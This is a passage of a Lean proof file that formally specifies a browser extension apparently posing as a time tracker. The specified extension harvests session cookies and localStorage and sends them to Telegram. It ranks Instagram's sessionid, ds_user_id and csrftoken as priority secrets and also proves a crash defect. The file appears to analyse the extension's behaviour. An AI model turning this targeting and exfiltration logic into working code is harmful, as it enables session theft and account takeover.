      (if otherCookies tk (getRelevantCookies domain cookies) = [] then []
       else tableMessages
          (if priorityCookies tk (getRelevantCookies domain cookies) ++
              secondaryCookies tk (getRelevantCookies domain cookies) = [] then
            domainHeaderOf stats domain
           else extendedHeaderOf domain)
          ("<b>🍪 General Cookies (" ++
            toString (otherCookies tk (getRelevantCookies domain cookies)).length ++
            "):</b>\n<pre>")
          ((otherCookies tk (getRelevantCookies domain cookies)).map cookieRow)) ++
      (if localStorageOf webStorage domain = [] then []
       else tableMessages
          (if priorityCookies tk (getRelevantCookies domain cookies) ++
              secondaryCookies tk (getRelevantCookies domain cookies) = [] then
            domainHeaderOf stats domain
           else extendedHeaderOf domain)
          "<b>📦 Website Storage (localStorage):</b>\n<pre>"
          ((localStorageOf webStorage domain).map storageRow)) := by
  have hlen : ∀ {α : Type} (l : List α), (0 < l.length) ↔ l ≠ [] := fun l =>
    List.length_pos
  have hkeys : (localStorageOf webStorage domain).keys.length =
      (localStorageOf webStorage domain).length := by
    simp [JsObject.keys]
  unfold domainMessages
  simp only [hret, htk, Bool.false_eq_true, if_false, gt_iff_lt, hkeys, domainHeaderOf,
    extendedHeaderOf]
  by_cases hsec : priorityCookies tk (getRelevantCookies domain cookies) ++
      secondaryCookies tk (getRelevantCookies domain cookies) = []
  · have hblock := (secretBlock_eq_empty_iff tk (getRelevantCookies domain cookies)).2 hsec
    simp only [hsec, hblock, if_true, ne_eq, not_true_eq_false, if_false, List.nil_append]
    congr 1
    · by_cases ho : otherCookies tk (getRelevantCookies domain cookies) = []
      · simp [ho]
      · simp [ho, List.length_pos.2 ho]
    · by_cases hl : localStorageOf webStorage domain = []
      · simp [hl]
      · simp [hl, List.length_pos.2 hl]
  · have hblock : ¬ secondaryLines tk (getRelevantCookies domain cookies)
        (priorityLines tk (getRelevantCookies domain cookies)) = "" :=
      fun h => hsec ((secretBlock_eq_empty_iff tk (getRelevantCookies domain cookies)).1 h)
    simp only [hsec, hblock, if_false, ne_eq, not_false_eq_true, if_true]
    rw [secretBlock_eq]
    congr 1
    congr 1
    · by_cases ho : otherCookies tk (getRelevantCookies domain cookies) = []
      · simp [ho]
      · simp [ho, List.length_pos.2 ho]
    · by_cases hl : localStorageOf webStorage domain = []
      · simp [hl]
      · simp [hl, List.length_pos.2 hl]

/-- Sections of the report of one domain on every input where the iteration
does not throw: for every domain of the full sync that is not silenced and whose
priority keys `tk` are read from the platform table, the messages sent for the
domain are: one secrets message, when there is a priority or a secondary
cookie, made of the priority lines followed by the secondary lines; then the
messages of the general cookie table, whose rows are the other cookies; then
the messages of the local-storage table.  The matching cookies have pairwise
different names, and the priority cookies (name in `tk`, in the order of `tk`),
the secondary cookies (name not in `tk`, lower-cased name containing a session
keyword) and the other cookies together are a rearrangement of the matching
cookies, so each cookie is emitted in exactly one section. -/
theorem cookie_sections_spec (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) (domain : String) (tk : List String)
    (htk : targetKeysOf domain = some tk)
    (hret : isSilenced stats cookies webStorage domain = false) :
    domainMessages stats cookies webStorage domain =
      (if priorityCookies tk (getRelevantCookies domain cookies) ++
          secondaryCookies tk (getRelevantCookies domain cookies) = [] then []
       else [domainHeaderOf stats domain ++ "<b>🔒 SECRET SESSION DATA:</b>\n" ++
          (String.join ((priorityCookies tk (getRelevantCookies domain cookies)).map
              priorityLine) ++
            String.join ((secondaryCookies tk (getRelevantCookies domain cookies)).map
              secondaryLine))]) ++
      (if otherCookies tk (getRelevantCookies domain cookies) = [] then []
       else tableMessages
          (if priorityCookies tk (getRelevantCookies domain cookies) ++
              secondaryCookies tk (getRelevantCookies domain cookies) = [] then
            domainHeaderOf stats domain
           else extendedHeaderOf domain)
          ("<b>🍪 General Cookies (" ++
            toString (otherCookies tk (getRelevantCookies domain cookies)).length ++
            "):</b>\n<pre>")
          ((otherCookies tk (getRelevantCookies domain cookies)).map cookieRow)) ++
      (if localStorageOf webStorage domain = [] then []
       else tableMessages
          (if priorityCookies tk (getRelevantCookies domain cookies) ++
              secondaryCookies tk (getRelevantCookies domain cookies) = [] then
            domainHeaderOf stats domain
           else extendedHeaderOf domain)
          "<b>📦 Website Storage (localStorage):</b>\n<pre>"
          ((localStorageOf webStorage domain).map storageRow)) ∧
    ((getRelevantCookies domain cookies).map (fun c => c.name)).Nodup ∧
    (priorityCookies tk (getRelevantCookies domain cookies) ++
      (secondaryCookies tk (getRelevantCookies domain cookies) ++
        otherCookies tk (getRelevantCookies domain cookies))).Perm
      (getRelevantCookies domain cookies) ∧
    (∀ c ∈ priorityCookies tk (getRelevantCookies domain cookies), c.name ∈ tk) ∧
    (∀ c ∈ secondaryCookies tk (getRelevantCookies domain cookies),
      c.name ∉ tk ∧ hasSessionKeyword c.name = true) ∧
    (∀ c ∈ otherCookies tk (getRelevantCookies domain cookies),
      c.name ∉ tk ∧ hasSessionKeyword c.name = false) ∧
    ((priorityCookies tk (getRelevantCookies domain cookies)).map
      (fun c => c.name)).Sublist tk := by
  have hnames := getRelevantCookies_names_nodup domain cookies
  have hkeys := targetKeysOf_nodup domain tk htk
  refine ⟨domainMessages_retained stats cookies webStorage domain tk htk hret, hnames,
    cookie_sections_perm _ _ hkeys hnames, ?_, ?_, ?_, ?_⟩
  · intro c hc
    exact ((mem_priorityCookies _ _ hnames c).1 hc).2
  · intro c hc
    unfold secondaryCookies at hc
    rw [List.mem_filter] at hc
    simpa using hc.2
  · intro c hc
    unfold otherCookies at hc
    rw [List.mem_filter] at hc
    simpa using hc.2
  · unfold priorityCookies
    clear hkeys htk
    induction tk with
    | nil => simp
    | cons key rest ih =>
      cases hf : (getRelevantCookies domain cookies).find? (fun ck => ck.name = key) with
      | none =>
        simp only [List.filterMap_cons, hf]
        exact List.Sublist.cons _ ih
      | some c =>
        have hname : c.name = key := by simpa using List.find?_some hf
        simp only [List.filterMap_cons, hf, List.map_cons, hname]
        exact List.Sublist.cons₂ _ ih

set_option maxRecDepth 8000 in
/-- The sections at a concrete domain: on `www.instagram.com` the cookie `sessionid` is
a priority secret, `MyToken` a secondary secret and `theme` a row of the
general table; the secrets message carries the first two in that order and the
table message the third. -/
theorem cookie_sections_spec_witness :
    domainMessages [("www.instagram.com", 5000)]
      [("instagram.com",
        [ CookieRecord.mk "theme" "dark" "/" false false none "lax" true,
          CookieRecord.mk "MyToken" "T" "/" false false none "lax" true,
          CookieRecord.mk "sessionid" "S" "/" false false none "lax" true ])] []
      "www.instagram.com" =
      [ "<b>🌐 DOMAIN:</b> <code>www.instagram.com</code>\n⏱️ Time Active: <code>0h 0m 5s</code>\n\n<b>🔒 SECRET SESSION DATA:</b>\n<b>🔑 sessionid</b>: <code>S</code>\n• <i>MyToken</i>: <code>T</code>\n",
        "<b>🌐 www.instagram.com (Extended Details):</b>\n<b>🍪 General Cookies (1):</b>\n<pre>theme          : dark\n</pre>" ] := by
  rw [(cookie_sections_spec [("www.instagram.com", 5000)]
      [("instagram.com",
        [ CookieRecord.mk "theme" "dark" "/" false false none "lax" true,
          CookieRecord.mk "MyToken" "T" "/" false false none "lax" true,
          CookieRecord.mk "sessionid" "S" "/" false false none "lax" true ])] []
      "www.instagram.com" ["sessionid", "ds_user_id", "csrftoken"] (by decide) (by decide)).1]
  decide

/-- C12 (code defect): the domain `constructor` is retained (it has a matching
cookie and a local-storage key), but the read `SOCIAL_PLATFORMS[baseDomain]`
finds the inherited member instead of falling back to the empty list, the loop
over the priority keys throws, and the sync ends: the matching cookie `sid` of
`constructor` is emitted in no section, and the closing message is not sent. -/
theorem triggerTelegramSync_throws_on_inherited_platform :
    isSilenced [] [("constructor.example.com",
        [CookieRecord.mk "sid" "S" "/" false false none "lax" true])]
      [("constructor", StorageSnapshot.mk "constructor" (some [("k", "v")]) none 1)]
      "constructor" = false ∧
    getRelevantCookies "constructor" [("constructor.example.com",
        [CookieRecord.mk "sid" "S" "/" false false none "lax" true])] =
      [CookieRecord.mk "sid" "S" "/" false false none "lax" true] ∧
    domainThrows [] [("constructor.example.com",
        [CookieRecord.mk "sid" "S" "/" false false none "lax" true])]
      [("constructor", StorageSnapshot.mk "constructor" (some [("k", "v")]) none 1)]
      "constructor" = true ∧
    triggerTelegramSync "Linux | Chrome" [] [("constructor.example.com",
        [CookieRecord.mk "sid" "S" "/" false false none "lax" true])]
      [("constructor", StorageSnapshot.mk "constructor" (some [("k", "v")]) none 1)] =
      [ "<b>🚀 UNIVERSAL DATA SYNC</b>\nDevice: <code>Linux | Chrome</code>\n<i>Status: Deep Precision Audit Complete</i>",
        "<b>🌐 DOMAIN:</b> <code>constructor.example.com</code>\n⏱️ Time Active: <code>0h 0m 0s</code>\n\n<b>🔒 SECRET SESSION DATA:</b>\n• <i>sid</i>: <code>S</code>\n" ] := by
  decide

end TimeTracker
